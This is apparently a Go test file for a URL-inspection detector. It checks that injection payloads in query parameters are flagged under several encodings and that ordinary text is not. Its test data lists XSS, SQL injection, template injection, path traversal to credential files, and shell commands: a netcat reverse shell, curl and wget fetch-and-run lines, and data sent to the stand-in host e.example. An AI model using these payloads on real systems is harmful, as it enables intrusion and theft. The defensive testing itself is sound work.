package verdict_test

import (
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/weburl/weburl/verdict"
)

// TestInjection holds what is an attack in a parameter, however it is encoded, and what is not.
func TestInjection(t *testing.T) {
	isFound := func(input string) bool {
		return slices.ContainsFunc(verdict.Inspect(input).Findings, func(f verdict.Finding) bool { return f.Rule == verdict.Injection })
	}
	encode := func(s string) string { // each byte
		var b strings.Builder
		for _, c := range []byte(s) {
			b.WriteString("%" + string("0123456789abcdef"[c>>4]) + string("0123456789abcdef"[c&15]))
		}
		return b.String()
	}
	for _, value := range []string{
		`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `" onmouseover="alert(1)`, `<svg/onload=alert(1)>`, `<a href="javascript:alert(1)">`, `<iframe src=//e.example>`, `<?php system('id')`, `<!DOCTYPE a [<!ENTITY b SYSTEM "c">]>`,
		`1' OR '1'='1`, `1' or 1=1--`, `admin'--`, `') or ('a'='a`, `1 or 1=1`, `1 UNION SELECT 1,2,3`, `1/**/union/**/all/**/select/**/null,null`, `-1' union select user,password from users`,
		`1; DROP TABLE users`, `1 and sleep(5)`, `1;waitfor delay '0:0:5'`, `1 and extractvalue(1,concat(1))`, `x from information_schema.tables`, `' or true--`, `'; exec xp_cmdshell 'dir'`,
		`;cat /etc/group`, `a|whoami`, `a&&curl http://e.example/`, "`id`", `$(sleep 5)`, `;wget${IFS}e.example`, `; nc -e /bin/sh 1.1.1.1`,
		`{{7*7}}`, `${7*7}`, `#{ 7 * 7 }`, `<%= 7*7 %>`, `{{config}}`, `{{''.__class__.__mro__}}`, `${T(java.lang.Runtime)}`,
		`../../../x`, `..\..\..\x`, `/etc/passwd`, `../etc/passwd`, `/proc/self/environ`, `/.env`, `WEB-INF/../WEB-INF/web.xml`, `C:\windows\win.ini`,
	} {
		for name, text := range map[string]string{"form": url.QueryEscape(value), "bytes": encode(value), "twice": encode(encode(value)), "few": strings.NewReplacer("%", "%25", "#", "%23", "&", "%26", " ", "+").Replace(value)} {
			if input := "https://shop.example/find?id=" + text; !isFound(input) {
				t.Errorf("%s of %s has no finding: %s", name, value, input)
			}
		}
	}
	for _, input := range []string{
		"https://shop.example/.env", "https://shop.example/app/.env.local", "https://shop.example/.git/config", "https://shop.example/etc/passwd", "https://shop.example/find?PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
		"https://shop.example/%3Cscript%3Ealert(1)", "https://shop.example/?<script>alert(1)", "https://shop.example/#<img src=x onerror=alert(1)>", "/find?id=1'+or+'1'='1",
	} {
		if v := new(verdict.Inspector).Inspect(input, "https://shop.example/"); !slices.ContainsFunc(v.Findings, func(f verdict.Finding) bool { return f.Rule == verdict.Injection }) {
			t.Errorf("%s: %s", input, rulesOf(v))
		}
	}
	for value, want := range map[string]string{
		"$(wget http://e.example/x.sh)": "http://e.example/x.sh", "a;curl https://e.example/x|sh": "https://e.example/x", "<script src=//e.example/x.js>": "https://e.example/x.js", "<img onerror=fetch('https://e.example/?'+a)>": "https://e.example/?",
	} {
		for _, text := range []string{url.QueryEscape(value), encode(value)} {
			v := verdict.Inspect("https://shop.example/find?id=" + text)
			if !slices.ContainsFunc(v.Findings, func(f verdict.Finding) bool { return f.Inside != nil && f.Inside.Input == want }) {
				t.Errorf("%s: no %s: %s", text, want, rulesOf(v))
			}
		}
	}
	for _, value := range []string{
		"O'Reilly", "rock 'n' roll", "don't or can't", `"red shoes" and "blue shoes"`, "union select committee", "a <b> c", "1 < 2 and 3 > 2", "x=1", "a|b|c", "name|id|email", "cat; dog", "a;b;c", "AT&T", "Fish & Chips", "R&D; cat food",
		"C#", `"C#"`, `{"a":{"b":"/*"}}`, `{"filter":{"price":{"$gt":10}}}`, "{{name}}", "{{ unsubscribe_url }}", "${name}", "#{id}", "../../images/logo.png", "a/../b", "...", "1 or 2", "5*7", "(a or b) and c", "sleep (music)", "how to sleep(well)",
		`project = "A" AND status = "Open"`, `Name eq 'Milk' and Price gt 2.5`, `title:"a" OR title:"b"`, "select * from the menu", "drop tables and chairs", "insert coin", "{ user(id: 4) { name } }", "^[a-z]+$", "a--b", "'quoted' -- dash", "echo park", "ping pong; ping me",
		"environment", "my.env", "images/.envelope.png", "passwd", "how is /etc used", "union of workers", "T(x)", "self", "config", "on=1", `data-on="x"`, "<3", "<p>text</p>", "a <- b", "year=2024 and year=2025", "id,name", "1=1",
	} {
		if input := "https://shop.example/find?q=" + url.QueryEscape(value); isFound(input) {
			t.Errorf("%s has a finding: %s", value, verdict.Inspect(input).Findings[0].Message)
		}
	}
	for _, input := range []string{"https://github.com/o/r/blob/main/etc/passwd", "https://github.com/o/r/tree/main/.git/config", "https://shop.example/wiki/Union_select", "https://shop.example/a/b/../../c", "https://en.wikipedia.org/wiki/O'Reilly"} {
		if isFound(input) {
			t.Errorf("%s has a finding", input)
		}
	}
}

// TestSamePlace holds that one thing in a place and in a part of it is found once, also after escapes that encoders write.
func TestSamePlace(t *testing.T) {
	for _, test := range []struct {
		input      string
		rule       verdict.Rule
		start, end int
	}{
		{`https://bank.example\@evil.example/a/..%2fb`, verdict.HiddenDots, 37, 39},
		{"https://u:p@ss/ann@evil.example/a/..%2fb", verdict.Recipient, 15, 31},
	} {
		found := slices.DeleteFunc(verdict.Inspect(test.input).Findings, func(f verdict.Finding) bool { return f.Rule != test.rule })
		if len(found) != 1 || found[0].Start != test.start || found[0].End != test.end {
			t.Errorf("%s: %+v", test.input, found)
		}
	}
}
